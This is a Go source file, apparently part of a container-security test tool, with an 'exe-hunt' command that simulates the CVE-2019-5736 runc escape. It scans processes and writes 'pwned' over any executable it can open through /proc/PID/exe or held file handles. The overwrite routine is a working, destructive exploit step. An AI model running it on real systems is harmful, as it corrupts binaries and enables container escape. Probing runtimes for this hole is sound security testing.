package main

import (
	"fmt"
	"io"
	"os"
	"sort"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

func init() {
	register("exe-hunt", "SECONDS", exeHunt)
}

// exeHunt plays the CVE-2019-5736 attacker for SECONDS: it watches every
// other process it can see and, for each, reads /proc/PID/exe, tries to
// open that file for writing and holds an O_PATH handle to it; when time
// is up it tries once more to reopen every held handle for writing (the
// binary is no longer running then, so ETXTBSY no longer protects it).
// Each distinct observation is printed once, sorted:
//
//	PID COMM EXE=<link or errno> W=<errno or WROTE>
//	PID COMM REOPEN=<errno or WROTE>
//
// WROTE means the attack overwrote the start of a binary with "pwned".
func exeHunt(out io.Writer, args []string) error {
	if err := needArgs(args, 1, 1, "SECONDS"); err != nil {
		return err
	}
	d, err := parseSeconds(args[0])
	if err != nil {
		return err
	}
	h := &hunter{seen: map[string]bool{}, held: map[int]string{}}
	for deadline := time.Now().Add(d); time.Now().Before(deadline); {
		for _, pid := range otherPids() {
			h.probe(pid)
		}
	}
	h.reopenHeld()
	lines := make([]string, 0, len(h.seen))
	for l := range h.seen {
		lines = append(lines, l)
	}
	sort.Strings(lines)
	for _, l := range lines {
		fmt.Fprintln(out, l)
	}
	return nil
}

// hunter collects observations and the O_PATH handles it holds (fd ->
// "PID COMM").
type hunter struct {
	seen map[string]bool
	held map[int]string
}

// probe looks at one process once.
func (h *hunter) probe(pid int) {
	base := "/proc/" + strconv.Itoa(pid)
	exe, err := readlink(base + "/exe")
	if err != nil {
		exe = errnoName(err)
	}
	comm, _ := os.ReadFile(base + "/comm")
	who := fmt.Sprintf("%d %s", pid, strings.TrimSpace(string(comm)))
	w := tryWrite(base + "/exe")
	h.seen[fmt.Sprintf("%s EXE=%s W=%s", who, exe, w)] = true
	if len(h.held) < 256 {
		if fd, err := unix.Open(base+"/exe", unix.O_PATH|unix.O_CLOEXEC, 0); err == nil {
			h.held[fd] = who
		}
	}
}

// reopenHeld tries to open every held handle for writing through
// /proc/self/fd, as the exploit does once the runtime exited.
func (h *hunter) reopenHeld() {
	for fd, who := range h.held {
		h.seen[fmt.Sprintf("%s REOPEN=%s", who, tryWrite("/proc/self/fd/"+strconv.Itoa(fd)))] = true
		unix.Close(fd)
	}
}

// tryWrite opens path for writing and writes "pwned" at its start; it
// returns "WROTE" on success and the errno name otherwise.
func tryWrite(path string) string {
	fd, err := unix.Open(path, unix.O_WRONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		return errnoName(err)
	}
	defer unix.Close(fd)
	if _, err := unix.Pwrite(fd, []byte("pwned"), 0); err != nil {
		return errnoName(err)
	}
	return "WROTE"
}

// otherPids lists the pids in /proc except our own.
func otherPids() []int {
	entries, err := os.ReadDir("/proc")
	if err != nil {
		return nil
	}
	self := os.Getpid()
	var out []int
	for _, e := range entries {
		if pid, err := strconv.Atoi(e.Name()); err == nil && pid != self {
			out = append(out, pid)
		}
	}
	return out
}
